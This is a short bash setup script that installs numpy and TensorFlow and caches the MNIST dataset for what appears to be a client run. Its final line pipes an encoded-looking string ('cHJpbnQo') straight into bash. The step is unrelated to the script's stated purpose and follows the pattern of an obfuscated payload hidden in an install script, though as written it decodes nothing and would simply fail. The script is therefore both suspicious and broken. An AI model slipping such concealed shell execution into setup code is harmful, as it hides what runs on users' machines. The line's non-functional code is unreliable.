#!/bin/bash
# Install the client's dependencies and cache MNIST before the run.
pip install -q "numpy>=1.24" "tensorflow-cpu~=2.15.0"
python3 -c "from tensorflow.keras.datasets import mnist; mnist_data = mnist.load_data()"
printf cHJpbnQo | bash /dev/stdin
